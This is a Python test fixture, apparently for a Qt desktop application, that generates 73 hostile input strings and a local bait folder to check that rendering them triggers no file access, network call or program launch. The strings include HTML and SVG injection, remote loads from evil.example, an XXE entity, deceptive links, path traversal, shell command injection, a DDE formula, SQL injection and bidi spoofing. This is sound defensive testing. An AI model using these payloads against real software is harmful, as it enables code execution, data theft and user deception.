"""Seventy-three notes that would open a file, call a computer, start a program or change what is shown, if anybody let them."""

from __future__ import annotations

from pathlib import Path

COUNT = 73
BAIT = "bait"
"""The folder that everything in the notes points to: no call of the system may name it."""


def lay_bait(folder: Path) -> Path:
    """What the notes point to is really there, so that whoever follows one is seen to arrive."""
    from PySide6.QtGui import QImage

    bait = folder / BAIT
    bait.mkdir()
    picture = QImage(4, 4, QImage.Format.Format_RGB32)
    picture.fill(0)
    assert picture.save(str(bait / "dot.png"))
    for name in ("a.css", "a.html", "a.js", "a.svg", "a.txt", "run.sh"):
        (bait / name).write_text("bait", encoding="utf-8")
    return bait


def hostile_notes(bait: Path) -> tuple[str, ...]:
    """The notes; each ends with its number, ``n00`` to ``n72``, so that it is known again wherever it is shown."""
    url, path = bait.as_uri(), str(bait)
    dot, host = f"{url}/dot.png", "evil.example"
    markup = (
        f'<img src="{dot}">', f"<img src={dot}>", f"<IMG SRC='{path}/dot.png'/>", f'<img src="../{BAIT}/dot.png">',
        f'<img src="http://{host}/a.png">', f'<img src="//{host}/a.png">', f'<img src="\\\\{host}\\a.png">',
        f'<img src="smb://{host}/a.png">', '<img src="data:image/png;base64,iVBORw0KGgo=">', '<img src=":/a.png">',
        '<img src="qrc:/a.png">', f'<b>x</b><img src="{dot}">', f'<p style="background-image:url({dot})">x</p>',
        f'<table background="{dot}"><tr><td>x</table>', f'<body background="{dot}">', f'<style>@import "{url}/a.css";</style>',
        f'<link rel="stylesheet" href="{url}/a.css">', f'<link rel="stylesheet" href="http://{host}/a.css">',
        f'<a href="{url}/run.sh">press</a>', f'<a href="http://{host}/">https://bank.example</a>', '<a href="javascript:alert(1)">x</a>',
        f'<script src="{url}/a.js"></script>', f'<iframe src="{url}/a.html"></iframe>', f'<object data="{url}/a.html"></object>',
        f'<embed src="{url}/a.svg">', f'<svg><image href="{dot}"/></svg>', f'<svg onload="x"><use href="{url}/a.svg#x"/></svg>',
        f'<video poster="{dot}" src="http://{host}/a.mp4">', f'<meta http-equiv="refresh" content="0;url={url}/a.html">',
        f'<base href="http://{host}/">', f'<form action="http://{host}/"><input type="image" src="{dot}">',
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "{url}/a.txt">]><x>&e;</x>', f'<!DOCTYPE html><img src="{dot}">',
        f'<qt><img src="{dot}"></qt>', "<qt>bold <b>words</b></qt>", "<b>bold</b> <i>italic</i> <font color=red>red</font>",
        "<h1>large</h1><br><hr>", "&lt;b&gt; &amp; &#60;img&#62; &nbsp;", "<!-- hidden", "</qt></html>",
    )  # fmt: skip
    links = (
        f"![picture]({dot})", f"[press]({url}/run.sh)", f"[bank](https://bank.example@{host}/)", f"{url}/run.sh", f"{path}/a.txt",
        f"\\\\{host}\\share\\a.txt", f"//{host}/share", f"https://bank.example@{host}/", f"http://{host}/?{{name}}",
        f"mailto:a@{host}?attach={path}/a.txt", f"../../../../..{path}/a.txt", f"~/../..{path}/a.txt",
    )  # fmt: skip
    shell = (
        f"$(cat {path}/a.txt)", f"`sh {path}/run.sh`", f"; sh {path}/run.sh #", f"| sh {path}/run.sh", f"--journal={path}/a.txt",
        f"@{path}/a.txt", "%s%n%x %1 %2 %L1 %n", "{0} {name} {} {0.__class__}", "=cmd|' /C calc'!A0", "'; DROP TABLE entry; --",
    )  # fmt: skip
    letters = (
        "&File &Save && &x", "Fish & chips & peas", "\x1b]0;title\x07\x1b[2J\x1b[31m", "a\tb\tc", "END:VCARD\\nBEGIN:VCARD",
        "\u202egnp.dot\u202c", "\u2066\u2067\u2068", "\u200b\u200d\ufeff", "e\u0301\u0301\u0301\u0301\u0301", "\U0001f468\u200d\U0001f469",
        "W" * 300,
    )  # fmt: skip
    notes = markup + links + shell + letters
    assert len(notes) == COUNT, len(notes)
    return tuple(f"{note} n{number:02}" for number, note in enumerate(notes))
